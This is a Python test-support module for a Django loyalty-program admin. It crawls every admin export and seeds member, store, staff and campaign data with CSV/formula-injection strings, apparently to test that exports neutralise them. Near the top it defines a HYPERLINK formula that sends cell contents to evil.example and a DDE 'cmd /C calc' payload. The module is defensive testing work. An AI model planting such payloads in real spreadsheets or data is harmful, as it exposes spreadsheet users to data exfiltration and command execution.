"""Finding every export of the admin and opening it (issue 20, "Exports are safe and exact").

`find_exports(client)` crawls the admin as the logged-in user the way a person clicks through
it: from the admin home (the dashboard with its reports menu), every admin URL without
parameters (generated from the URL conf), every changelist and the change page of the newest
object of every registered model, it follows every link on every page (once per kind of page: a
page reached again with another object id, or with other filters, is not opened again; delete
and history pages never offer a download and are not opened). An answer that is a download is
an export. Then, on every changelist, it runs every admin action on the listed rows, inside a
savepoint rolled back afterwards, filling and sending an action's intermediate form if it
shows one (the print run of coupon codes is an action with a form), and posts every
django-import-export export form once per file format. Error reports of import and bulk jobs
are links to stored files: they are read from storage.

So an export added later is walked without being listed; `EXPECTED_EXPORTS` in the test names
what the walk must find, and the test fails when the walk finds one it does not name.

`build_world(...)` fills a chain in which the text that reaches an export comes from data
that begins a formula: the member `HOSTILE` opened at a till through the till API, a second
one through the admin's 开卡 form, a store, a staff member, a coupon template, a segment and a
campaign, a rejected import row and a rejected award row.
"""

import csv
import html
import io
import re
from dataclasses import dataclass, field
from datetime import datetime, time, timedelta
from decimal import Decimal
from urllib.parse import parse_qsl, urljoin, urlsplit

from django import forms
from django.contrib import admin
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import Resolver404, resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests import factories
from tests.admin_walk import admin_urls_without_args

# The member of the issue: a name a till may type, and a live formula in a naive export.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
# Data that begins with the other characters a spreadsheet takes for a formula.
HOSTILE_ADMIN_MEMBER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_STORE = "+1+1 广州天河店"
HOSTILE_STAFF = "-2+3 店员"
HOSTILE_TEXTS = (HOSTILE, HOSTILE_ADMIN_MEMBER, HOSTILE_STORE, HOSTILE_STAFF)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Admin URLs the walk does not open: they end the session, need a POST body, or change
# something when opened. Every other admin URL name must be reached (the test checks it).
NOT_OPENED = {
    "logout": "ends the session",
    "login": "the walk is logged in",
    "view_on_site": "leaves the admin",
    "password_change_done": "a confirmation page",
    "campaigns_segment_preview": "POST only (the segment editor's live count)",
    "campaigns_campaign_launch": "launching changes the campaign",
    "campaigns_campaign_finish": "finishing changes the campaign",
    "members_importjob_confirm": "confirming runs the import",
    "members_member_counter": "counter forms: walked by tests/admin_walk.py; no downloads",
    "autocomplete": "answers JSON to a widget's query",
}
# Pages that never offer a download: not opened (each model's are many and slow).
NOT_OPENED_SUFFIXES = ("_delete", "_history")


# --- what an export holds --------------------------------------------------------------------


@dataclass
class Cell:
    sheet: str
    coordinate: str
    value: object
    data_type: str  # openpyxl's: s(tring), n(umber), f(ormula), b(ool), d(ate); "csv" in a CSV
    number_format: str
    header: str  # the column's header (the last bold text row above it), "" if none


@dataclass
class Export:
    name: str  # how the walk got it: the URL shape, or the action / export form
    url: str
    filename: str
    content: bytes
    cells: list = field(default_factory=list)

    @property
    def kind(self):
        return "csv" if self.filename.lower().endswith(".csv") else "xlsx"

    def texts(self):
        return [c.value for c in self.cells if isinstance(c.value, str)]


def read_cells(export):
    if export.kind == "csv":
        text = export.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        header = rows[0] if rows else []
        return [
            Cell("csv", f"R{r}C{c}", value, "csv", "", header[c - 1] if c <= len(header) else "")
            for r, row in enumerate(rows, 1)
            for c, value in enumerate(row, 1)
        ]
    book = load_workbook(io.BytesIO(export.content))
    cells = []
    for sheet in book.worksheets:
        headers = {}
        for row in sheet.iter_rows():
            filled = [c for c in row if c.value is not None]
            if filled and all(c.data_type == "s" and c.font and c.font.b for c in filled):
                headers = {c.column: str(c.value) for c in filled}
                continue  # a header (or a bold title) row: what the cells below it are
            for c in filled:
                cells.append(
                    Cell(sheet.title, c.coordinate, c.value, c.data_type, c.number_format,
                         headers.get(c.column, ""))
                )  # fmt: skip
    return cells


# --- the walk --------------------------------------------------------------------------------

_HREF = re.compile(r"""\bhref\s*=\s*["']([^"'#]+)["']""", re.I)
_SKIP_PREFIXES = ("/static/", "/api/", "/i18n/", "javascript:", "mailto:", "http://", "https://")


def _is_download(response):
    disposition = response.get("Content-Disposition", "")
    return response.status_code == 200 and "attachment" in disposition


def _filename(response):
    match = re.search(r'filename="?([^";]+)"?', response.get("Content-Disposition", ""))
    return match.group(1) if match else "download"


# Query parameters that filter what a page shows rather than choose the page.
FILTER_PARAMETERS = {
    "month", "date_from", "date_to", "store", "q", "o", "p", "e", "_changelist_filters",
}  # fmt: skip


def _shape(url):
    """What makes two URLs the same kind of page: the URL name, its non-numeric arguments (a
    report's slug) and, but for a changelist, which query parameters it carries (filters
    aside)."""
    parts = urlsplit(url)
    if parts.path.startswith("/media/"):
        return ("media", parts.path.split("/")[2], ())  # one stored file per upload folder
    try:
        match = resolve(parts.path)
    except Resolver404:
        return None
    name = match.url_name or ""
    kwargs = tuple(sorted((k, v) for k, v in match.kwargs.items() if not str(v).isdigit()))
    if name.endswith("_changelist"):
        return (name, kwargs, ())
    keys = {k for k, _v in parse_qsl(parts.query, keep_blank_values=True)}
    return (name, kwargs, tuple(sorted(keys - FILTER_PARAMETERS)))


def _name(shape):
    """reports_report/settlement?statement"""
    name, kwargs, keys = shape
    return name + "".join(f"/{v}" for _k, v in kwargs) + ("?" + "&".join(keys) if keys else "")


def _links(page_url, content):
    found = []
    for href in _HREF.findall(content):
        href = html.unescape(href).strip()
        if not href or href.startswith(_SKIP_PREFIXES):
            continue
        url = urljoin(page_url, href)
        if url.startswith(("/admin/", "/media/")):
            found.append(url)
    return found


class Walk:
    def __init__(self, client, per_model=1):
        self.client = client
        self.per_model = per_model
        self.exports = []
        self.seen = set()
        self.opened_names = set()
        self.failures = []  # (url, status) of pages that answered 500

    # GET ------------------------------------------------------------------------------------

    def seeds(self):
        urls = [reverse("admin:index"), reverse("admin:reports_index")]
        urls += [url for name, url in admin_urls_without_args() if name not in NOT_OPENED]
        for model in admin.site._registry:
            info = (model._meta.app_label, model._meta.model_name)
            urls.append(reverse("admin:{}_{}_changelist".format(*info)))
            for obj in model._default_manager.order_by("-pk")[: self.per_model]:
                urls.append(reverse("admin:{}_{}_change".format(*info), args=[obj.pk]))
        return urls

    def crawl(self):
        queue = list(self.seeds())
        while queue:
            url = queue.pop(0)
            shape = _shape(url)
            if shape is None or shape in self.seen:
                continue
            if shape[0] in NOT_OPENED or shape[0].endswith(NOT_OPENED_SUFFIXES):
                continue
            self.seen.add(shape)
            if shape[0] == "media":
                self._media(url)
                continue
            self.opened_names.add(shape[0])
            response = self.client.get(url)
            if response.status_code >= 500:
                self.failures.append((url, response.status_code))
                continue
            if _is_download(response):
                self._record(_name(shape), url, response)
                continue
            if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                queue.extend(_links(url, response.content.decode("utf-8", "replace")))

    def _media(self, url):
        name = urlsplit(url).path[len("/media/") :]
        with default_storage.open(name, "rb") as handle:
            content = handle.read()
        what = "error report of " + ("an import job" if name.startswith("imports/") else
                                     "a bulk job")  # fmt: skip
        self._add(Export(what, url, name.rsplit("/", 1)[-1], content))

    def _record(self, name, url, response):
        content = b"".join(response.streaming_content) if response.streaming else response.content
        self._add(Export(name, url, _filename(response), content))

    def _add(self, export):
        export.cells = read_cells(export)
        self.exports.append(export)

    # actions --------------------------------------------------------------------------------

    def actions(self):
        for model in admin.site._registry:
            if model._meta.app_label in {"auth", "axes", "django_celery_beat"}:
                continue  # no exports among the libraries' own actions
            info = (model._meta.app_label, model._meta.model_name)
            changelist = reverse("admin:{}_{}_changelist".format(*info))
            page = self.client.get(changelist)
            action_form = page.context.get("action_form") if page.context else None
            if page.status_code != 200 or action_form is None:
                continue
            choices = [name for name, _label in action_form.fields["action"].choices if name]
            pks = [str(pk) for pk in model._default_manager.order_by("-pk").values_list(
                "pk", flat=True)[:50]]  # fmt: skip
            if not pks:
                continue
            for action in choices:
                for selection in (pks, pks[:1]):
                    if self._try_action(model, changelist, action, selection):
                        break

    def _try_action(self, model, changelist, action, selection):
        """Run `action` on `selection` and roll it back; True when it answered a download."""
        data = {"action": action, "index": "0", "_selected_action": selection}
        downloaded = False

        class Rollback(Exception):
            pass

        try:
            with transaction.atomic():
                response = self.client.post(changelist, data)
                if response.status_code == 200 and not _is_download(response):
                    form = _action_form(response.content.decode("utf-8", "replace"), action)
                    if form is not None:
                        response = self.client.post(changelist, form)
                if response.status_code >= 500:
                    self.failures.append((f"{changelist} action {action}", response.status_code))
                if _is_download(response):
                    name = f"action {model._meta.label}.{action}"
                    self._record(name, f"{changelist} (POST action={action})", response)
                    downloaded = True
                raise Rollback
        except Rollback:
            pass
        return downloaded

    # django-import-export --------------------------------------------------------------------

    def import_export_forms(self):
        for model, model_admin in admin.site._registry.items():
            if not hasattr(model_admin, "get_export_formats"):
                continue
            info = (model._meta.app_label, model._meta.model_name)
            url = reverse("admin:{}_{}_export".format(*info))
            page = self.client.get(url)
            if page.status_code != 200:
                continue
            form = page.context["form"]
            for index, file_format in enumerate(model_admin.get_export_formats()):
                data = {name: _filled(field) for name, field in form.fields.items()}
                data["format"] = str(index)
                response = self.client.post(url, data)
                if _is_download(response):
                    extension = file_format().get_extension()
                    self._record(f"{info[0]}_{info[1]}_export {extension}", url, response)


def _filled(field):
    """A form field's value as a person in a hurry gives it: ticked, its default, or its first
    choice."""
    if isinstance(field, forms.BooleanField):
        return "on"
    if isinstance(field, forms.MultipleChoiceField):
        return field.initial or []
    if field.initial not in (None, ""):
        return field.initial
    choices = [value for value, _label in getattr(field, "choices", ()) if value != ""]
    return choices[0] if choices else ""


_FORM = re.compile(r"<form\b[^>]*method=[\"']post[\"'][^>]*>(.*?)</form>", re.S | re.I)
_INPUT = re.compile(r"<input\b([^>]*)>", re.I)
_SELECT = re.compile(r"<select\b([^>]*)>(.*?)</select>", re.S | re.I)
_TEXTAREA = re.compile(r"<textarea\b([^>]*)>(.*?)</textarea>", re.S | re.I)
_OPTION = re.compile(r"<option\b[^>]*value=[\"']([^\"']*)[\"'][^>]*>", re.I)
_ATTR = re.compile(r"""([\w-]+)\s*=\s*["']([^"']*)["']""")


def _attrs(text):
    return {k.lower(): html.unescape(v) for k, v in _ATTR.findall(text)}


def _action_form(page, action):
    """The intermediate form of `action` on `page`, filled as a person in a hurry would: what
    it holds already, the first choice of each list, 1 in each empty field, every box ticked.
    None when the page holds no such form."""
    for body in _FORM.findall(page):
        fields = [_attrs(a) for a in _INPUT.findall(body)]
        if not any(f.get("name") == "action" and f.get("value") == action for f in fields):
            continue
        data = {}
        for f in fields:
            name, kind = f.get("name"), f.get("type", "text").lower()
            if not name or kind in {"file"}:
                continue
            if kind in {"checkbox", "radio"}:
                data.setdefault(name, []).append(f.get("value", "on"))
            elif kind == "submit":
                data[name] = f.get("value", "")
            else:
                value = f.get("value", "")
                data.setdefault(name, []).append(value or ("1" if kind != "hidden" else ""))
        for attrs, options in _SELECT.findall(body):
            values = [v for v in _OPTION.findall(options) if v]
            if attrs and values:
                data[_attrs(attrs)["name"]] = values[0]
        for attrs, content in _TEXTAREA.findall(body):
            data[_attrs(attrs)["name"]] = html.unescape(content).strip() or "1"
        for button in re.findall(r"<button\b([^>]*)>", body, re.I):
            button = _attrs(button)
            if button.get("name"):
                data[button["name"]] = button.get("value", "")
        return data
    return None


def find_exports(client):
    """Every export the logged-in user can download from the admin, opened."""
    walk = Walk(client)
    walk.crawl()
    walk.actions()
    walk.import_export_forms()
    return walk


# --- the world -------------------------------------------------------------------------------


def build_world(client, superuser):
    """The demo chain in which data that begins a formula reaches every export (see the module
    doc). `client` is logged in as `superuser`."""
    from campaigns.models import Campaign, Segment
    from campaigns.services import deliver_offers, launch_campaign, save_segment
    from campaigns.statistics import refresh_member_stats
    from core.models import Source
    from coupons.models import Coupon
    from coupons.services import issue_coupon
    from loyalty.ledger import post_points_entry
    from loyalty.models import PointsEntry
    from members.bulk import run_bulk_job, start_file_job
    from members.importing.jobs import run_import_job
    from members.models import ImportJob, Member
    from members.services import generate_card_batch
    from reports import services as reports
    from stores.models import Staff
    from stores.services import create_terminal
    from tests.api.conftest import post, till_client
    from tests.coupons.conftest import make_template
    from tests.reports.conftest import recharge, sell

    chain = factories.make_chain()
    _rules()
    now = timezone.now()
    yesterday = timezone.make_aware(
        datetime.combine(timezone.localdate() - timedelta(days=1), time(12, 0))
    )
    gz = chain["GZ001"]
    gz.name = HOSTILE_STORE
    gz.save(update_fields=["name"])

    # The member of the issue, opened at a till (the till API takes the name as typed).
    _terminal, key = create_terminal(store_code="SH001", code="POS09")
    opened = post(till_client(key), "/api/v1/members",
                  {"phone": "13912340001", "name": HOSTILE}, key="open-hostile")  # fmt: skip
    assert opened.status_code == 201, opened.content
    member = Member.objects.get(phone="13912340001")
    assert member.name == HOSTILE
    # A second one through the admin's 开卡 form.
    added = client.post(
        reverse("admin:members_member_add"),
        {"phone": "13912340002", "name": HOSTILE_ADMIN_MEMBER, "gender": "U",
         "home_store": chain["SH001"].pk, "initial_points": "1100",
         "initial_stored_value": "169.83"},
    )  # fmt: skip
    assert added.status_code == 302, added.content.decode()[:3000]
    other = Member.objects.get(phone="13912340002")
    assert other.name == HOSTILE_ADMIN_MEMBER

    # Sales, points earned in SH001 and spent in the franchise store, stored value.
    sell(member, chain["SH001"], "1100.00", at=yesterday)
    sell(other, chain["SH001"], "3116.00", at=yesterday)
    recharge(member, chain["SH001"], "500.00")
    sell(member, gz, "400.00", redeem=200, stored_value="100.00")
    post_points_entry(member=member, points=50, kind=PointsEntry.Kind.BONUS, source=Source.ADMIN,
                      store=chain["SH001"], expires_at=now + timedelta(days=10), reason="即将过期")

    # Coupons: a template, one coupon used, one past its last day (not yet swept), one open.
    template = make_template("EVIL10", name=HOSTILE, face_value=Decimal("10"),
                             threshold=Decimal("50"), per_member_limit=5)  # fmt: skip
    used = issue_coupon(template=template, member=member, occasion="walk-1", source=Source.ADMIN)
    sell_with_coupon(member, chain["SH001"], used)
    lapsed = issue_coupon(template=template, member=member, occasion="walk-2",
                          source=Source.ADMIN)  # fmt: skip
    Coupon.objects.filter(pk=lapsed.pk).update(valid_until=now - timedelta(days=1))
    issue_coupon(template=template, member=member, occasion="walk-3", source=Source.ADMIN)

    Staff.objects.create(store=chain["SH001"], employee_no="E9001", name=HOSTILE_STAFF)
    generate_card_batch(prefix="66", count=3, source=Source.ADMIN, actor=superuser,
                        notes=HOSTILE)  # fmt: skip

    # A segment and a launched campaign of the hostile name.
    segment = save_segment(segment=Segment(name=HOSTILE), definition={"all": []})
    campaign = Campaign.objects.create(code="EVIL", name=HOSTILE, segment=segment,
                                       coupon_template=template, control_percent=Decimal("50"),
                                       measure_days=30)  # fmt: skip
    launch_campaign(campaign=campaign, source=Source.ADMIN, at=now - timedelta(days=3))
    deliver_offers(campaign=campaign, day=(now - timedelta(days=3)).date(), source=Source.TASK,
                   at=now - timedelta(days=3))  # fmt: skip
    sell(other, chain["SH001"], "60.00")

    # A rejected import row (a CSV: every value is text) and a rejected award row.
    upload = SimpleUploadedFile(
        "members.csv",
        "手机号,姓名,积分,储值余额,开卡门店\n13912340003,{},\"1,100\",169.83,XX999\n".format(
            '"' + HOSTILE.replace('"', '""') + '"'
        ).encode(),
    )
    job = ImportJob.objects.create(file=upload, original_name="members.csv", dry_run=True,
                                   created_by=superuser)  # fmt: skip
    run_import_job(job_id=job.pk)
    job.refresh_from_db()
    assert job.report, job.message
    award = SimpleUploadedFile(
        "award.csv", "手机号,积分,原因\n13900000000,\"1,100\",{}\n".format(
            '"' + HOSTILE.replace('"', '""') + '"').encode()
    )  # fmt: skip
    bulk = start_file_job(kind="award_points", upload=award, params={}, actor=superuser)
    bulk = run_bulk_job(job_id=bulk.pk)
    assert bulk.report, bulk.message

    # The nightly figures and the month's settlement draft.
    refresh_member_stats(source=Source.COMMAND)
    reports.refresh_daily_stats(first_day=timezone.localdate() - timedelta(days=3),
                                last_day=timezone.localdate(), source=Source.COMMAND)
    reports.refresh_snapshots(source=Source.COMMAND)
    reports.compute_settlement(month=timezone.localdate().replace(day=1), source=Source.COMMAND)
    return {"member": member, "other": other, "template": template, "campaign": campaign}


def _rules():
    """1 point per yuan, 100 points = 1 yuan (up to half a sale), points expire at the end of
    next year; tiers 普通会员 and 银卡会员 (as tests/reports/conftest.py's report_rules)."""
    from loyalty.models import EarningRule, ExpiryPolicy, RedemptionRule
    from members.models import Tier

    Tier.objects.create(code="normal", name="普通会员", rank=0, is_default=True)
    Tier.objects.create(code="silver", name="银卡会员", rank=1, upgrade_spend=Decimal("1000"))
    EarningRule.objects.create(name="每元1分", kind=EarningRule.Kind.PER_AMOUNT, points=1,
                               per_amount=Decimal("1"))  # fmt: skip
    RedemptionRule.objects.create(name="100积分抵1元", points_per_yuan=100,
                                  max_share_percent=Decimal("50"))  # fmt: skip
    ExpiryPolicy.objects.create(name="次年年底", mode=ExpiryPolicy.Mode.YEAR_END, periods_after=1,
                                start_date=timezone.localdate().replace(year=2000, month=1,
                                                                        day=1))  # fmt: skip


def walk_everything():
    """Build the world, walk it and roll it all back; the walk (its exports opened) stays.
    Called once per test module (it takes about a minute)."""
    from django.test import Client

    class Rollback(Exception):
        pass

    walk = None
    try:
        with transaction.atomic():
            superuser = factories.UserFactory(username="walker", is_staff=True,
                                              is_superuser=True)  # fmt: skip
            client = Client()
            client.force_login(superuser)
            build_world(client, superuser)
            walk = find_exports(client)
            raise Rollback
    except Rollback:
        pass
    return walk


def sell_with_coupon(member, store, coupon):
    from core.models import Source
    from sales.services import post_sale
    from tests.reports.conftest import line

    return post_sale(store=store, member=member, receipt_no=f"C-{coupon.code}",
                     lines=[line("80.00")], total=Decimal("80.00"),
                     coupon_codes=[coupon.code], source=Source.TILL)  # fmt: skip
